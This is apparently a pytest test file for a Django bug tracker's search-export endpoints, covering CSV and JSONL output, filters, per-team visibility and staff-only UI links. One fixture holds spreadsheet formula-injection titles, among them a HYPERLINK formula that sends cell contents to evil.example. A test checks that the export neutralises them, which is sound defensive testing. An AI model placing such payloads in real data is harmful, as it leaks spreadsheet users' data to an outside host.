"""Search results as files: GET /api/search?format=csv|jsonl and the staff UI's export links.

The people: Alice is on the QA staff and sees every product. Carol is staff
on the Tramline team only: Ledgerly (PRD-2) is hidden from her. Bob has an
account and an API token, sees every product, and is not staff.

The corpus is the staff UI's (tests/test_ui.py): the Tramline story, a run
of receipt bugs, two Ledgerly bugs; plus Mallory's bugs, whose titles a
spreadsheet would run as formulas.
"""

import csv
import io
import json

import pytest
from django.contrib.auth.models import Group, User
from django.http import StreamingHttpResponse
from django.test import override_settings
from django.utils import timezone

from backlog.exports import export_records
from backlog.imports import import_records
from backlog.models import Bug, Product
from search import service

from .conftest import TRAMLINE, client_with_token, jsonl, seeing_all_products
from .test_ui import MORE

FORMULAS = [
    {
        "kind": "bug",
        "key": "BUG-90",
        "product": "PRD-1",
        "title": '=HYPERLINK("http://evil.example/?"&A1,"Renewal help")',
        "severity": "low",
        "created_at": "2026-03-07T08:00:00+00:00",
    },
    {
        "kind": "bug",
        "key": "BUG-91",
        "product": "PRD-1",
        "title": "@SUM(1+1) renewal receipt total",
        "severity": "low",
        "created_at": "2026-03-08T08:00:00+00:00",
    },
    {
        "kind": "bug",
        "key": "BUG-92",
        "product": "PRD-1",
        "title": "-2+3 renewal discount, «€» shown wrong",
        "severity": "low",
        "created_at": "2026-03-09T08:00:00+00:00",
    },
]


# Enough renewal records for more than a page of 20.
REMINDERS = [
    {
        "kind": "test",
        "key": f"TEST-{40 + n}",
        "product": "PRD-1",
        "feature": "FEAT-7",
        "title": f"Renewal reminder arrives {days} days before expiry",
        "created_at": f"2026-01-{1 + n:02d}T08:00:00+00:00",
    }
    for n, days in enumerate([1, 2, 3, 5, 7, 10, 14, 21, 30, 60])
]


@pytest.fixture
def corpus(db):
    report = import_records(jsonl(*TRAMLINE, *MORE, *FORMULAS, *REMINDERS).splitlines())
    assert report.written and not report.problems, report.problems


@pytest.fixture
def alice(db):
    return seeing_all_products(User.objects.create_user("alice", password="correct horse battery", is_staff=True))


@pytest.fixture
def carol(corpus):
    team = Group.objects.create(name="Tramline team")
    Product.objects.get(key="PRD-1").teams.add(team)
    carol = User.objects.create_user("carol", is_staff=True)
    carol.groups.add(team)
    return carol


@pytest.fixture
def bob(db):
    return seeing_all_products(User.objects.create_user("bob", password="another long passphrase"))


def content(response) -> str:
    assert isinstance(response, StreamingHttpResponse), type(response)
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict]:
    text = content(response)
    assert text.startswith("\ufeff")  # Excel reads UTF-8 with it
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def all_pages(params: dict, user) -> list[str]:
    """The keys of the search's whole ranked list, page by page through next_cursor."""
    keys, cursor = [], None
    while True:
        page = service.call("search", {**params, "limit": 100, "cursor": cursor}, user)
        keys += [hit["key"] for hit in page["results"]]
        if not (cursor := page["next_cursor"]):
            return keys


# -- REST ----------------------------------------------------------------------------------------


def test_csv_streams_the_whole_ranked_list_in_the_searchs_order(corpus, bob):
    response = client_with_token(bob).get("/api/search", {"query": "renewal", "format": "csv", "mode": "keyword"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.now().strftime("%Y-%m-%d")
    assert response["Content-Disposition"] == f'attachment; filename="search-renewal-{today}.csv"'
    rows = csv_rows(response)
    expected = all_pages({"query": "renewal", "mode": "keyword"}, bob)
    assert len(expected) > 20  # more than a page
    assert [row["key"] for row in rows] == expected
    assert [row["rank"] for row in rows] == [str(n) for n in range(1, len(rows) + 1)]
    assert response["X-Export-Rows"] == str(len(rows)) == response["X-Export-Total"]
    assert "X-Export-Truncated" not in response
    bug = next(row for row in rows if row["key"] == "BUG-12")
    assert bug == {
        "rank": bug["rank"],
        "key": "BUG-12",
        "kind": "bug",
        "product": "PRD-1",
        "feature": "FEAT-7",
        "title": "Renewal button does nothing on Android 14",
        "status": "open",
        "severity": "high",
        "created_at": "2026-02-01T10:00:00+00:00",
        "updated_at": "2026-02-02T10:00:00+00:00",
        "url": "http://testserver/records/BUG-12/",
    }


def test_the_searchs_filters_apply_to_the_export(corpus, bob):
    params = {"query": "renewal", "entities": "bug", "severity": "low,medium", "created_after": "2026-03-01"}
    response = client_with_token(bob).get("/api/search", {**params, "format": "csv"})
    rows = csv_rows(response)
    assert rows and [row["key"] for row in rows] == all_pages(params, bob)
    assert {row["kind"] for row in rows} == {"bug"}
    assert {row["severity"] for row in rows} <= {"low", "medium"}
    assert all(row["created_at"] >= "2026-03-01" for row in rows)


def test_a_user_of_one_product_exports_only_that_products_records(carol, alice):
    # "pdf" matches Ledgerly's bugs; "renewal" Tramline's.
    params = {"query": "renewal or pdf or invoice", "format": "csv"}
    everything = {row["key"]: row["product"] for row in csv_rows(client_with_token(alice).get("/api/search", params))}
    assert {"PRD-1", "PRD-2"} <= set(everything.values())
    as_carol = client_with_token(carol)
    hers = csv_rows(as_carol.get("/api/search", params))
    assert hers and {row["product"] for row in hers} == {"PRD-1"}
    lines = content(as_carol.get("/api/search", {**params, "format": "jsonl"})).splitlines()
    assert lines and {json.loads(line).get("product", json.loads(line)["key"]) for line in lines} == {"PRD-1"}


def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(corpus, bob):
    response = client_with_token(bob).get("/api/search", {"query": "renewal", "entities": "bug", "format": "csv"})
    titles = {row["key"]: row["title"] for row in csv_rows(response)}
    assert titles["BUG-90"] == """'=HYPERLINK("http://evil.example/?"&A1,"Renewal help")"""
    assert titles["BUG-91"] == "'@SUM(1+1) renewal receipt total"
    assert titles["BUG-92"] == "'-2+3 renewal discount, «€» shown wrong"  # and UTF-8 throughout
    assert titles["BUG-12"] == "Renewal button does nothing on Android 14"


def test_jsonl_is_the_interchange_format_and_imports_back_to_the_same_records(corpus, bob):
    params = {"query": "renewal", "entities": "bug", "format": "jsonl"}
    response = client_with_token(bob).get("/api/search", params)
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"].endswith('.jsonl"')
    lines = content(response).splitlines()
    keys = [json.loads(line)["key"] for line in lines]
    assert keys == all_pages({"query": "renewal", "entities": "bug"}, bob)
    stored = {record["key"]: record for record in export_records(["bug"])}
    assert [json.loads(line) for line in lines] == [stored[key] for key in keys]  # export_records' own records

    # The records go, and come back from the file as they were.
    Bug.objects.filter(key__in=keys).delete()
    report = import_records(lines)
    assert not report.problems and report.created == {"bug": len(keys)}
    again = {record["key"]: record for record in export_records(["bug"])}
    assert [again[key] for key in keys] == [stored[key] for key in keys]


@override_settings(SEARCH_RANKING={"arm_depth": 4})
def test_past_the_searchs_depth_the_export_goes_on_with_the_further_keyword_matches(corpus, bob):
    as_bob = client_with_token(bob)
    paged = all_pages({"query": "renewal", "mode": "keyword"}, bob)
    response = as_bob.get("/api/search", {"query": "renewal", "mode": "keyword", "format": "csv"})
    keys = [row["key"] for row in csv_rows(response)]
    assert len(paged) == 4 and keys[:4] == paged  # first what the pages show, in their order
    assert len(keys) == len(set(keys)) == int(response["X-Export-Total"]) > 20  # then every other match

    params = {"query": "renewal", "sort": "recent", "format": "csv"}
    created = [row["created_at"] for row in csv_rows(as_bob.get("/api/search", params))]
    assert len(created) > 20 and created == sorted(created, reverse=True)  # newest first throughout


@override_settings(EXPORT_MAX_ROWS=3)
def test_an_export_cut_at_the_maximum_says_so(corpus, bob):
    response = client_with_token(bob).get("/api/search", {"query": "renewal", "format": "jsonl"})
    assert len(content(response).splitlines()) == 3
    assert response["X-Export-Rows"] == "3" and response["X-Export-Limit"] == "3"
    assert int(response["X-Export-Total"]) > 3 and response["X-Export-Truncated"] == "true"


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"format": "xlsx"}, "format: 'xlsx' is not a format; use 'csv' or 'jsonl'"),
        ({"format": ""}, "format: '' is not a format; use 'csv' or 'jsonl'"),
        ({"format": "csv", "cursor": "abc"}, "cursor: an export holds the whole list from its first record"),
        ({"format": "csv", "severity": "blocker"}, "severity"),
    ],
)
def test_a_bad_export_request_is_a_400_that_says_what_to_send(corpus, bob, params, message):
    response = client_with_token(bob).get("/api/search", {"query": "renewal", **params})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"]["code"] == "invalid_request"
    assert message in response.json()["error"]["message"]


def test_an_export_needs_a_token(corpus, client):
    response = client.get("/api/search", {"query": "renewal", "format": "csv"})
    assert response.status_code == 401 and response.json()["error"]["code"] == "not_authenticated"


def test_the_openapi_schema_lists_the_format_and_its_media_types(db, bob):
    schema = client_with_token(bob).get("/api/schema", {"format": "json"}, HTTP_ACCEPT="application/json")
    operation = json.loads(schema.content)["paths"]["/api/search"]["get"]
    (format_parameter,) = [p for p in operation["parameters"] if p["name"] == "format"]
    assert format_parameter["schema"]["enum"] == ["csv", "jsonl"]
    assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv", "application/x-ndjson"}


# -- the staff UI ----------------------------------------------------------------------------------


def test_the_search_page_links_the_export_of_its_search_and_filters(client, corpus, alice):
    client.force_login(alice)
    page = client.get("/search/", {"query": "renewal", "entities": "bug", "severity": "low"}).content.decode()
    link = "/search/export?query=renewal&amp;entities=bug&amp;severity=low&amp;format=csv"
    assert f'href="{link}"' in page and f'href="{link.replace("csv", "jsonl")}"' in page
    rows = csv_rows(client.get(link.replace("&amp;", "&")))
    assert [row["key"] for row in rows] == all_pages({"query": "renewal", "entities": "bug", "severity": "low"}, alice)


def test_the_ui_export_is_the_rest_export(client, corpus, carol):
    client.force_login(carol)
    params = {"query": "renewal or pdf", "format": "jsonl"}
    assert content(client.get("/search/export", params)) == content(client_with_token(carol).get("/api/search", params))


def test_a_bad_ui_export_is_a_page_that_says_what_to_send(client, corpus, alice):
    client.force_login(alice)
    response = client.get("/search/export", {"query": "renewal", "format": "pdf"})
    assert response.status_code == 400
    page = response.content.decode()
    assert "This export could not run" in page and "use &#x27;csv&#x27; or &#x27;jsonl&#x27;" in page
    assert 'href="/search/?query=renewal"' in page


def test_the_ui_export_is_for_staff_only(client, corpus, bob):
    client.force_login(bob)
    response = client.get("/search/export", {"query": "renewal", "format": "csv"})
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_a_repeated_format_is_a_400_naming_it_on_rest_and_in_the_staff_ui(corpus, bob, alice, client):
    response = client_with_token(bob).get("/api/search?query=renewal&format=csv&format=jsonl")
    assert response.status_code == 400
    assert response.json()["error"]["message"] == "format: give one format, not 2; use 'csv' or 'jsonl'."

    client.force_login(alice)
    page = client.get("/search/export?query=renewal&format=csv&format=jsonl")
    assert page.status_code == 400 and "give one format, not 2" in page.content.decode()
